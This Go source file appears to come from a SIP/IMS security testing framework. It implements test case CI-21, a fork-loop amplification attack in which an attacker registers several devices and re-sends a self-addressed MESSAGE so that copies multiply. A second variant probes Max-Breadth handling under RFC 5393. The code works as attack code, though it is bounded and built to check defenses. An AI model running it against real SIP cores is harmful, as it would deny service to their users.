package attack

import (
	"context"
	"fmt"
	"strings"
	"time"

	"imsafe/proto/sip"
	"imsafe/secure"
)

// forkLoop: a user with several devices sends each request that forks to them back to himself.
func forkLoop() Attack {
	return Attack{
		ID: "ci.fork.loop", Number: "CI-21", Title: "one request that multiplies at every turn",
		Text:     "a few contacts and one request would keep the core busy for as long as it remembers it",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption}, Module: ServicesControl,
		Source: "RFC 5393 3", Access: both(),
		Bounds: Bounds{Packets: 200, Bytes: 400_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "loop", Position: Subscriber, Run: multiply, Controls: []secure.ControlID{secure.CIAvailabilityForkBreadth}},
			{Name: "breadth", Position: Subscriber, Run: spread, Controls: []secure.ControlID{secure.CIAvailabilityForkBreadth}},
		},
	}
}

// The devices of the attacker, and how many copies of one request are too many: a request may have 60 branches (RFC 5393 5.3.1).
const (
	devices  = 5
	tooMany  = 61
	oneRound = devices
)

// manyDevices is the attacker with a few of them.
func (f *Field) manyDevices(ctx context.Context) (*Hand, error) {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return nil, err
	}
	for i := range devices - 1 {
		contact := fmt.Sprintf("<sip:device%d@%s;transport=%s>;+sip.instance=\"<urn:x-lab:%d>\"", i, mallory.conn.LocalAddr(), strings.ToLower(mallory.proto), i)
		answer, err := mallory.RegisterAs(ctx, Registering{User: mallory.User, Contact: contact, Expires: 600})
		if err != nil || answer.Status() != 200 {
			return nil, fmt.Errorf("attack: device %d is not registered: %d, %w", i, statusOf(answer), err)
		}
	}
	return mallory, nil
}

func multiply(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.manyDevices(ctx)
	if err != nil {
		return err
	}
	r := Request{Method: "MESSAGE", URI: mallory.IMPU, CallID: f.token(), CSeq: 1000, Body: "round", Lines: []string{"Content-Type: text/plain"}}
	if err := mallory.Write(mallory.Text(r)); err != nil {
		return err
	}
	copies, refused := 0, 0
	for copies < tooMany {
		var m *sip.Message
		err := within(ctx, soon, func(ctx context.Context) (err error) {
			m, err = mallory.Await(ctx, func(m *sip.Message) bool { return string(m.Get(sip.HdrCallID)) == r.CallID })
			return err
		})
		if err != nil {
			break // no more come
		}
		if !m.IsRequest() {
			refused++
			continue
		}
		copies++
		if err := mallory.Write(mallory.Text(r)); err != nil { // the same request, on a new branch
			return err
		}
	}
	o.Arrived("%d copies of one request come back, and %d answers", copies, refused)
	o.Wire(copies >= tooMany, "%d copies of one request; a round is %d", copies, oneRound)
	if copies >= tooMany {
		o.Users = 1
	}
	return nil
}

// spread sends a request of which all but two of the branches that it may have are spent (RFC 5393 5.3.3).
func spread(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.manyDevices(ctx)
	if err != nil {
		return err
	}
	const left = 2
	r := Request{Method: "MESSAGE", URI: mallory.IMPU, CallID: f.token(), Body: "broad", Lines: []string{fmt.Sprintf("Max-Breadth: %d", left), "Content-Type: text/plain"}}
	if err := mallory.Write(mallory.Text(r)); err != nil {
		return err
	}
	copies, status := 0, 0
	for status == 0 && copies <= left {
		m, err := mallory.Await(ctx, func(m *sip.Message) bool { return string(m.Get(sip.HdrCallID)) == r.CallID })
		if err != nil {
			return err
		}
		if m.IsRequest() {
			copies++
		} else if m.Status() >= 200 {
			status = m.Status()
		}
	}
	o.Arrived("a request with %d branches left, to %d devices, is answered %d (0: not yet)", left, devices, status)
	o.Wire(copies > left, "%d copies of a request that may have %d", copies, left)
	if copies > left {
		o.Users = 1
	}
	return nil
}
